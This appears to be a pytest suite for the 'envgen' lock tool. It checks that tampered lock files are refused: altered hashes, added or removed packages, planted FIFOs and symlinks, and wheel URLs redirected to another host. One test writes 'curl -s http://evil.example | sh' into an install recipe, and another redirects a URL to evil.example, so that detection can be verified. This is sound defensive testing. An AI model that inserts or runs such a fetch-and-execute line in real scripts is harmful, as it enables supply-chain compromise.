"""A tampered lock through the real CLI: `check`, `install`, `status` and `diff --git` all refuse
it.

The bundled example is locked once (and committed, for `diff --git`); each test edits its lock files
the way a pull request could, then runs envgen in process. Each case let a tampered lock through
before the integrity check (lockio/integrity.py) existed."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path
from types import FrameType

import pytest
from click.testing import CliRunner
from envgen.cli import cli
from envgen.example.project import Example
from envgen.inputs.matrix import load_env
from envgen.lockio.exports.derived import derived_files
from envgen.lockio.store import read_lock
from envgen.project import Project

from tests.support.example import run_envgen

ENV = "demo"


@pytest.fixture(scope="module")
def served(read_only_locked: Example) -> Example:
    """The example, locked and committed (the lock is HEAD's): the module's copy of the worker's
    project with the worker's first lock (tests/integration/conftest.py). The module edits only its
    project (its lock files, put back after each test); upstream and what is served it only
    reads."""
    example = read_only_locked
    git = ["git", "-C", str(example.root), "-c", "user.name=t", "-c", "user.email=t@localhost"]
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "lock"]):
        subprocess.run([*git, *args], check=True, capture_output=True)
    return example


@pytest.fixture
def example(served: Example, monkeypatch: pytest.MonkeyPatch) -> Iterator[Example]:
    """The locked example; its lock files are put back as they were after each test."""
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(served.gitconfig))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    locks = served.root / "locks"
    saved = {p: p.read_bytes() for p in locks.iterdir()}
    yield served
    for path in locks.iterdir():
        path.unlink()
    for path, data in saved.items():
        path.write_bytes(data)


def lock_file(example: Example, suffix: str) -> Path:
    return example.root / "locks" / f"{ENV}{suffix}"


def blocks(example: Example) -> list[str]:
    """locks/demo.yml split before each package (the first block is the header and metadata)."""
    return re.split(r"(?m)^(?=- name: )", lock_file(example, ".yml").read_text())


def entry(example: Example, name: str, platform: str) -> str:
    (found,) = [
        b
        for b in blocks(example)
        if b.startswith(f"- name: {name}\n") and f"platform: {platform}\n" in b
    ]
    return found


def replace_in_yml(example: Example, old: str, new: str) -> None:
    """An edit of the yml, and the derived files rendered again from it (as `envgen export` would),
    so the check that derived files match the yml cannot be what catches it."""
    path = lock_file(example, ".yml")
    text = path.read_text()
    assert text.count(old) >= 1, old
    path.write_text(text.replace(old, new, 1))
    rerender_derived(example)


def rerender_derived(example: Example) -> None:
    project = Project(example.root)
    lock = read_lock(project, ENV)
    assert lock is not None
    for file in derived_files(lock, load_env(project, ENV)):
        (project.locks_dir / file.name).write_text(file.text)


def change_sha256(example: Example, name: str, platform: str) -> None:
    block = entry(example, name, platform)
    sha = re.search(r"sha256: ([0-9a-f]{64})", block)
    assert sha is not None
    replace_in_yml(example, block, block.replace(sha.group(1), "f" * 64))


def remove_package(example: Example, name: str, platform: str) -> None:
    replace_in_yml(example, entry(example, name, platform), "")


def add_package(example: Example) -> None:
    """A second copy of demo-peft under a new name: an extra wheel the matrix never asked for."""
    block = entry(example, "demo-peft", "linux-64")
    replace_in_yml(example, block, block + block.replace("name: demo-peft", "name: demo-extra"))


def check_steps(example: Example, *args: str) -> tuple[int, dict[str, dict[str, object]]]:
    code, out, err = run_envgen(example, "check", ENV, "--no-solve", "--json", *args)
    steps = {s["name"]: s for s in json.loads(out)["results"][0]["steps"]}
    return code, steps


def test_the_lock_as_written_is_intact(example: Example) -> None:
    code, steps = check_steps(example, "--no-env")
    assert code == 0, steps
    assert steps["static: integrity"]["status"] == "ok"
    code, out, _ = run_envgen(example, "status", ENV)
    assert code == 0 and out.startswith(f"{ENV}: fresh\n")


@pytest.mark.parametrize("args", [("--venv",), ("--no-env",)], ids=["venv", "conda"])
def test_check_fails_a_changed_conda_sha256(example: Example, args: tuple[str, ...]) -> None:
    """Before: with the derived files rendered again from the edited yml, every static step passed,
    and `check --venv` never installs the conda part whose hash changed."""
    change_sha256(example, "libdemo", "linux-64")
    code, steps = check_steps(example, *args)
    assert code == 4
    integrity = steps["static: integrity"]
    assert integrity["status"] == "failed"
    assert "do not hash to the content hash" in str(integrity["problems"])
    assert steps["env: install"]["status"] == "skipped"


def test_install_refuses_a_lock_with_a_package_removed_before_touching_the_prefix(
    example: Example, tmp_path: Path
) -> None:
    """Before: `install --venv` installed the lock without demo-peft."""
    remove_package(example, "demo-peft", "linux-64")
    prefix = tmp_path / "env"
    code, _, err = run_envgen(example, "install", ENV, "--venv", "--prefix", str(prefix))
    assert code == 4, err
    assert "the lock of demo was tampered with" in err
    assert (
        "pip-indexes names index pypi for demo-peft (linux-64), which locks/demo.yml does not lock"
        in err
    )
    assert not prefix.exists()


@pytest.mark.parametrize(
    "tamper",
    [
        lambda example: change_sha256(example, "demo-torch", "linux-64"),
        lambda example: change_sha256(example, "python", "linux-aarch64"),
        add_package,
        lambda example: remove_package(example, "demo-numpy", "linux-aarch64"),
    ],
    ids=["pip-sha256", "conda-sha256", "package-added", "package-removed"],
)
def test_status_reports_a_tampered_lock(example: Example, tamper: object) -> None:
    """Before: `status` said "fresh" (exit 0): it compared the inputs, and the derived files with
    the yml."""
    assert callable(tamper)
    tamper(example)
    code, out, _ = run_envgen(example, "status", ENV)
    assert code == 4
    assert out.startswith(f"{ENV}: tampered\n")
    assert "do not hash to the content hash" in out
    code, out, _ = run_envgen(example, "status", ENV, "--json")
    (report,) = json.loads(out)["results"]
    assert (code, report["state"], report["fresh"], report["ok"]) == (4, "tampered", False, False)


def test_diff_git_reports_a_hand_edited_recipe(
    example: Example, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: `diff --git HEAD --exit-code` exited 0 (it compared the yml and sources.toml
    only)."""
    recipe = lock_file(example, ".install.sh")
    recipe.write_text(
        recipe.read_text().replace("set -eu\n", "set -eu\ncurl -s http://evil.example | sh\n", 1)
    )
    monkeypatch.chdir(example.root)
    code, out, err = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
    assert code == 1, err
    assert "TAMPERED: locks/demo.install.sh differs from the recipe its lock renders" in out
    code, out, _ = run_envgen(example, "diff", "--git", "HEAD", "--format", "markdown")
    assert "> [!CAUTION]" in out and "locks/demo.install.sh differs from the recipe" in out


def test_diff_git_reports_a_hand_edited_sources_toml(
    example: Example, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A comment added to sources.toml changes no Lock field: only the content hash shows it."""
    path = lock_file(example, ".sources.toml")
    path.write_text(path.read_text() + "# reviewed, nothing to see\n")
    monkeypatch.chdir(example.root)
    code, out, _ = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
    assert code == 1
    assert (
        "TAMPERED: locks/demo.yml, locks/demo.sources.toml and locks/demo.install.sh do not hash"
        in out
    )


def test_diff_git_with_a_deleted_sources_toml_is_an_error(
    example: Example, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: exit 0 (the yml was compared on its packages alone)."""
    lock_file(example, ".sources.toml").unlink()
    monkeypatch.chdir(example.root)
    code, _, err = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
    assert code == 4
    assert "locks/demo.sources.toml is missing" in err


def reseal(example: Example) -> None:
    """What a tamperer who knows the scheme does after an edit: the content hash computed again, so
    only the rules that do not rest on the hash are left to catch it."""
    from envgen.lockio.seal import seal

    yml, sources, recipe = (lock_file(example, s) for s in (".yml", ".sources.toml", ".install.sh"))
    sources.write_text(seal(yml.read_text(), sources.read_text(), recipe.read_text()))


def test_a_wheel_url_moved_to_a_host_its_index_does_not_serve_is_flagged(example: Example) -> None:
    """Before: every static step passed (the derived files rendered again from the edited yml)."""
    block = entry(example, "demo-torch", "linux-64")
    url = re.search(r"url: (http://[^/]+)/files/", block)
    assert url is not None
    replace_in_yml(example, block, block.replace(url.group(1), "http://evil.example:8080"))
    reseal(example)
    code, steps = check_steps(example, "--no-env")
    assert code == 4
    integrity = steps["static: integrity"]
    assert integrity["status"] == "failed"
    (problem,) = integrity["problems"]
    assert (
        "demo-torch 2.10.0 (linux-64): its URL is on evil.example:8080, which index "
        "pypi does not serve" in problem
    )
    assert steps["static: derived files"]["status"] == "ok"
    code, out, _ = run_envgen(example, "status", ENV)
    assert code == 4 and "which index pypi does not serve" in out


def test_lock_rewrites_a_tampered_lock_rather_than_calling_it_up_to_date(example: Example) -> None:
    written = lock_file(example, ".yml").read_text()
    change_sha256(example, "demo-torch", "linux-64")
    code, out, err = run_envgen(example, "lock", ENV, "--json")
    assert code == 0, err
    assert json.loads(out)["results"][0]["status"] == "locked"
    assert lock_file(example, ".yml").read_text() == written
    assert run_envgen(example, "status", ENV)[0] == 0


def rollout_commit(example: Example) -> tuple[str, str]:
    """The commit locks/demo.sources.toml records for rollout, and that commit's parent."""
    text = lock_file(example, ".sources.toml").read_text()
    found = re.search(r'(?ms)^name = "rollout"$.*?^commit = "([0-9a-f]{40})"$', text)
    assert found is not None, text
    commit = found.group(1)
    repo = str(example.repos["rollout"].path)
    parent = subprocess.run(
        ["git", "-C", repo, "rev-parse", f"{commit}^"], check=True, capture_output=True, text=True
    ).stdout.strip()
    return commit, parent


@pytest.mark.parametrize("args", [("--force",), ()], ids=["force", "plain"])
def test_lock_heals_a_tampered_source_commit(example: Example, args: tuple[str, ...]) -> None:
    """rollout's commit in the sources.toml replaced by its parent, not sealed again. Before: the
    re-lock kept the tampered commit as the previous lock's pin, and failed (exit 3) on it."""
    commit, parent = rollout_commit(example)
    path = lock_file(example, ".sources.toml")
    path.write_text(path.read_text().replace(f'commit = "{commit}"', f'commit = "{parent}"'))
    code, _, err = run_envgen(example, "lock", ENV, *args)
    assert code == 0, err
    said = [line for line in err.splitlines() if "is resolved again from the matrix" in line]
    assert len(said) == 1, err
    assert "locks/demo.sources.toml fails the integrity check" in said[0]
    assert rollout_commit(example)[0] == commit
    assert run_envgen(example, "status", ENV)[0] == 0


def test_the_conda_re_solve_catches_a_changed_sha256_even_with_the_hash_recomputed(
    example: Example,
) -> None:
    """`check --venv` installs no conda package: the conda re-solve asks the channel for each locked
    file."""
    change_sha256(example, "libdemo", "linux-64")
    reseal(example)
    code, out, err = run_envgen(example, "check", ENV, "--venv", "--no-env", "--json")
    assert code == 4, err
    steps = {s["name"]: s for s in json.loads(out)["results"][0]["steps"]}
    assert steps["static: integrity"]["status"] == "ok"
    assert steps["solve: same pip set"]["status"] == "ok"
    conda = steps["solve: same conda set"]
    assert conda["status"] == "failed"
    assert (
        "linux-64: the channels serve no file with the locked sha256 of libdemo 1.0 "
        f"h0_0 ({'f' * 12})" in (conda["problems"])
    )


def test_bundle_refuses_a_tampered_lock_before_downloading(
    example: Example, tmp_path: Path
) -> None:
    """Before: the tampered lock was bundled, to be installed offline on a cluster."""
    remove_package(example, "demo-peft", "linux-64")
    out = tmp_path / "demo.tar"
    code, _, err = run_envgen(example, "bundle", ENV, "-o", str(out))
    assert code == 4, err
    assert "the lock of demo was tampered with" in err
    assert not out.exists()


def test_a_sources_toml_without_its_content_hash_is_one_verdict_tampered(
    example: Example,
    tmp_path: Path,
) -> None:
    """Before: `status` called it stale (exit 1, "written by an older envgen, or edited") while
    `check` and `install` refused it as tampered (exit 4). One file, one verdict: tampered, exit 4,
    with the re-lock hint; `envgen lock` writes the lock again (a no-op lock keeps only an intact
    one)."""
    path = lock_file(example, ".sources.toml")
    path.write_text(re.sub(r'(?m)^content-hash = "[0-9a-f]{64}"\n', "", path.read_text()))
    said = "locks/demo.sources.toml records no content hash: it was edited after `envgen lock`"
    hint = f"`envgen lock {ENV} --force`"  # each says to re-lock
    commands = {
        "status": ("status", ENV),
        "check": ("check", ENV, "--no-env", "--no-solve"),
        "install": ("install", ENV, "--venv", "--prefix", str(tmp_path / "env")),
    }
    for name, args in commands.items():
        code, out, err = run_envgen(example, *args)
        assert code == 4, (name, out, err)
        assert said in out + err and hint in out + err, name
    assert not (tmp_path / "env").exists()
    code, out, err = run_envgen(example, "lock", ENV, "--json")
    assert code == 0, err
    assert json.loads(out)["results"][0]["status"] == "locked"
    assert re.search(r'(?m)^content-hash = "[0-9a-f]{64}"$', path.read_text())
    assert run_envgen(example, "status", ENV)[0] == 0


# --- a FIFO or a symlink planted where the sources.toml should be (a pull request can add either) -

# Each command, and its exit code: bad input (2), or for `check` a failed static step (4); `show`
# reports the matrix, and leaves a lock that does not read to `check`.
PLANTED_COMMANDS = [
    (("lock", ENV), 2),
    (("lock", ENV, "--force"), 2),
    (("status", ENV), 2),
    (("check", ENV, "--no-env", "--no-solve"), 4),
    (("install", ENV, "--venv", "--prefix", "{tmp}/env"), 2),
    (("bundle", ENV, "-o", "{tmp}/demo.tar"), 2),
    (("export", ENV, "--format", "requirements", "--platform", "linux-64"), 2),
    (("diff", "--git", "HEAD"), 2),
    (("show", ENV), 0),
]
PLANTED_IDS = [" ".join(args) for args, _ in PLANTED_COMMANDS]


# Far above what any of these commands takes: only a read blocked on the FIFO reaches it.
HANG = 60.0


class Hung(BaseException):
    """A command still running after HANG seconds: not an Exception, so no handler of envgen's takes
    it for a failure of its own."""


def run_bounded(example: Example, args: tuple[str, ...]) -> tuple[int, str]:
    """The command line run in process (its subject is what envgen decides about the planted file,
    not the process), bounded: after HANG seconds the test fails, and a read blocked on the FIFO is
    released (the FIFO opened for writing and closed: the reader sees its end). Its exit code, and
    what it said on stdout and stderr."""
    fifo = lock_file(example, ".sources.toml")

    def hung(signum: int, frame: FrameType | None) -> None:
        raise Hung(f"envgen {' '.join(args)} still running after {HANG:.0f} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.setitimer(signal.ITIMER_REAL, HANG)
    try:
        result = CliRunner().invoke(
            cli, [*args, "--root", str(example.root)], catch_exceptions=False
        )
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
        if fifo.is_fifo():
            # A reader still waiting on it (in another thread) gets the end of the file; with no
            # reader the open fails (ENXIO): nothing waits on it.
            with contextlib.suppress(OSError):
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    return result.exit_code, result.stdout + result.stderr


@pytest.mark.parametrize(("args", "code"), PLANTED_COMMANDS, ids=PLANTED_IDS)
def test_a_fifo_at_the_sources_toml_hangs_no_command(
    example: Example, tmp_path: Path, args: tuple[str, ...], code: int
) -> None:
    """Before: `envgen lock` blocked for ever opening the FIFO (its freshness check read locks/
    directly). The command line runs in process, bounded (run_bounded): a command that opened the
    FIFO would block there until the bound fails the test."""
    path = lock_file(example, ".sources.toml")
    path.unlink()
    os.mkfifo(path)
    found, err = run_bounded(example, tuple(a.format(tmp=tmp_path) for a in args))
    assert found == code, err
    assert "Traceback" not in err
    assert code == 0 or "locks/demo.sources.toml is not a regular file" in err
    assert path.is_fifo()  # not replaced either
    assert not (tmp_path / "env").exists() and not (tmp_path / "demo.tar").exists()


@pytest.mark.parametrize(("args", "code"), PLANTED_COMMANDS, ids=PLANTED_IDS)
def test_no_command_follows_a_symlink_at_the_sources_toml(
    example: Example, tmp_path: Path, args: tuple[str, ...], code: int
) -> None:
    """The link points at the lock's own sources.toml, moved out of locks/: a command that followed
    it would find an intact lock, and succeed. The command line runs in process (run_bounded): its
    subject is what envgen reads, not the process."""
    path = lock_file(example, ".sources.toml")
    outside = tmp_path / "elsewhere.toml"
    shutil.move(path, outside)
    path.symlink_to(outside)
    before = outside.read_bytes()
    found, err = run_bounded(example, tuple(a.format(tmp=tmp_path) for a in args))
    assert found == code, err
    assert "Traceback" not in err
    assert code == 0 or "locks/demo.sources.toml is a symbolic link" in err
    assert path.is_symlink() and outside.read_bytes() == before


def test_every_message_names_the_env_asked_for_not_the_one_the_file_names(
    example: Example, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A sources.toml saying `env = "other"`: check, install, bundle and diff refuse or report it,
    and every command, file and hint they print is of demo (there is no env `other`: `envgen lock
    other` fails)."""
    path = lock_file(example, ".sources.toml")
    path.write_text(path.read_text().replace(f'\nenv = "{ENV}"\n', '\nenv = "other"\n', 1))
    runs = {
        "check": run_envgen(example, "check", ENV, "--no-env", "-v"),
        "install": run_envgen(example, "install", ENV, "--prefix", str(tmp_path / "env"), "--venv"),
        "bundle": run_envgen(example, "bundle", ENV, "-o", str(tmp_path / "b.tar")),
    }
    for command, (code, out, err) in runs.items():
        assert code == 4, (command, err)
        said = out + err
        named = r"check other|locks/other\.|other\.(?:yml|nix)|pylock\.other|lock other"
        assert not re.search(named, said), said
        assert f"envgen lock {ENV} --force" in said, (command, said)
    assert f"check {ENV} (" in runs["check"][1]
    assert f"check {ENV}: static checks" in runs["check"][2]
    monkeypatch.chdir(example.root)
    code, out, err = run_envgen(example, "diff", "--git", "HEAD")
    assert code == 0, err
    assert out.startswith(f"{ENV}: HEAD:locks/{ENV}.yml -> locks/{ENV}.yml"), out
    assert "TAMPERED" in out and "other:" not in out
    code, out, err = run_envgen(example, "diff", f"HEAD:locks/{ENV}.yml", f"locks/{ENV}.yml")
    assert "other:" not in out, out
